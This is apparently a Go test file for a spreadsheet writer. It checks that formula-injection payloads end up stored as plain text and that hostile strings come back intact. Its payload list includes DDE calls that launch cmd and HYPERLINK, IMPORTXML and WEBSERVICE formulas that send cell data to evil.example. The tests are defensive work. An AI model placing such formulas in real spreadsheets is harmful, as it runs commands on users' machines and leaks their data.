package xlsx

import (
	"encoding/xml"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// formulas are injection payloads (rules 13.8).
var formulas = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?x="&A1,"Скидка")`, `=IMPORTXML("http://evil.example","//a")`,
	`=WEBSERVICE("http://evil.example/"&A2)`, `=DDE("cmd";"/C calc";"x")`, `+1+1`, `+cmd|' /C calc'!A0`, `-1+1`, `-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`, `@A1`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x01\x02=cmd", "\uFEFF=1+1", "＝1+1", "+7(912)=CMD()",
}

func TestFormulasAreTextInEveryKindOfColumn(t *testing.T) {
	for _, kind := range []Kind{Text, Choice, Code} {
		columns := []Column{{Title: "=1+1", Kind: kind}}
		f := reopen(t, writeRows(t, Sheet{Name: "x", Columns: columns}, func(w *Writer) {
			for _, s := range formulas {
				w.Text(s)
				mustEndRow(t, w)
			}
		}))
		for i := range len(formulas) + 1 {
			cell, _ := excelize.CoordinatesToCellName(1, i+1)
			value, err := f.GetCellValue("x", cell)
			if err != nil || !strings.HasPrefix(value, "'") {
				t.Errorf("%s holds %q, %v", cell, value, err)
			}
			if formula, err := f.GetCellFormula("x", cell); err != nil || formula != "" {
				t.Errorf("%s holds the formula %q, %v", cell, formula, err)
			}
			want := excelize.CellTypeInlineString
			if kind == Choice && i > 0 { // the row after the header
				want = excelize.CellTypeSharedString
			}
			if got, err := f.GetCellType("x", cell); err != nil || got != want {
				t.Errorf("%s is of type %v, %v", cell, got, err)
			}
		}
	}
}

func TestAPhoneKeepsItsPlusInACodeColumnOnly(t *testing.T) {
	for s, want := range map[string]bool{
		"+79123456789": true, "+7 (912) 345-67-89": true, "+7-912-345-67-89": true,
		"+1-1": false, "+7912345678a": false, "+79123456789+1": false, "+": false, "": false, "79123456789": false,
		"+7912345678901234567890123": false, "=79123456789": false, "+7912345678901234": false,
	} {
		if got := isPhone(s); got != want {
			t.Errorf("isPhone(%q) = %v", s, got)
		}
	}
	f := reopen(t, writeRows(t, Sheet{Name: "x", Columns: []Column{{Title: "a"}, {Title: "b", Kind: Code}}}, func(w *Writer) {
		w.Text("+79123456789")
		w.Text("+79123456789")
		mustEndRow(t, w)
	}))
	rows, err := f.GetRows("x")
	if err != nil || rows[1][0] != "'+79123456789" || rows[1][1] != "+79123456789" {
		t.Errorf("%q, %v", rows, err)
	}
}

func TestHostileTextRoundTrips(t *testing.T) {
	long := strings.Repeat("ж", 40_000)
	cases := map[string]string{
		`<script>alert(1)</script>`:         `<script>alert(1)</script>`,
		`]]><x/>`:                           `]]><x/>`,
		`&amp; &lt; &#0; &bogus;`:           `&amp; &lt; &#0; &bogus;`,
		`<?xml version="1.0"?><!DOCTYPE a>`: `<?xml version="1.0"?><!DOCTYPE a>`,
		`"двойные" и 'одинарные'`:           `"двойные" и 'одинарные'`,
		"a\x00b\x01c\x08d\x0be\x0cf\x1fg":   "abcdefg",
		"a\uFFFEb\uFFFFc":                   "abc",
		"битый \xff\xfe байт \xd0":          "битый \uFFFD\uFFFD байт \uFFFD",
		"\xed\xa0\x80 суррогат":             "\uFFFD\uFFFD\uFFFD суррогат",
		"  края  ":                          "  края  ",
		"конец\t":                           "конец\t",
		"строка\r\nвторая\rтретья\nчетвёртая": "строка\nвторая\nтретья\nчетвёртая",
		"_x0041_ и _x003D_cmd": "_x0041_ и _x003D_cmd",
		"_x00\x0141_":          "_x0041_", "_x0041_x0042_": "_x0041_x0042_",
		"_x00_ _xZZZZ_ __x0041_":    "_x00_ _xZZZZ_ __x0041_",
		"эмодзи 😀 и 𝒳":              "эмодзи 😀 и 𝒳",
		"\u202eсправа налево\u200b": "\u202eсправа налево\u200b",
		"":                          "",
		long:                        long[:2*maxText],
		strings.Repeat("😀", 20_000): strings.Repeat("😀", maxText/2),
		strings.Repeat("<", 3):      "<<<",
		"Ѐѿҁ — кириллица за пределами русской": "Ѐѿҁ — кириллица за пределами русской",
	}
	for _, kind := range []Kind{Text, Choice} {
		var texts []string
		f := reopen(t, writeRows(t, Sheet{Name: "x", Columns: []Column{{Title: "a", Kind: kind}}}, func(w *Writer) {
			for in := range cases {
				texts = append(texts, in)
				w.Text(in)
				mustEndRow(t, w)
			}
		}))
		for i, in := range texts {
			cell, _ := excelize.CoordinatesToCellName(1, i+2)
			got, err := f.GetCellValue("x", cell)
			if err != nil || got != cases[in] {
				t.Errorf("%.60q came back as %.60q, %v", in, got, err)
			}
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range formulas {
		f.Add(s)
	}
	for _, s := range []string{"", "Иванов", "<&>", "_x0041_", "a\xff", "\uFFFF=1", "_x005F_x0041_", "_x00\x0141_", "]]>", "\r\n", " x "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := string(appendTextCell(nil, Code, s))
		var parsed struct {
			Text string `xml:"is>t"`
		}
		if err := xml.Unmarshal([]byte(cell), &parsed); err != nil {
			t.Fatalf("%q: %v", cell, err)
		}
		got := parsed.Text
		if isRisky(got) && !isPhone(got) {
			t.Errorf("%q came out as %q", s, got)
		}
		if !utf8.ValidString(got) || strings.ContainsRune(got, 0) {
			t.Errorf("%q came out as %q", s, got)
		}
		if want := expected(s); shown(got) != want {
			t.Errorf("%q came out as %q, want %q", s, got, want)
		}
	})
}

var escape = regexp.MustCompile(`_x[0-9a-fA-F]{4}_`)

// shown decodes _xHHHH_ as Excel does.
func shown(s string) string {
	return escape.ReplaceAllStringFunc(s, func(e string) string {
		n, _ := strconv.ParseUint(e[2:6], 16, 16)
		return string(rune(n))
	})
}

// expected is a naive model of what a cell must hold.
func expected(s string) string {
	s = cutText(s)
	apostrophe := isRisky(s) && !isPhone(s)
	s = strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(s)
	s = strings.Map(func(r rune) rune {
		if isIllegal(r) {
			return -1
		}
		return r
	}, s)
	if apostrophe {
		return "'" + s
	}
	return s
}
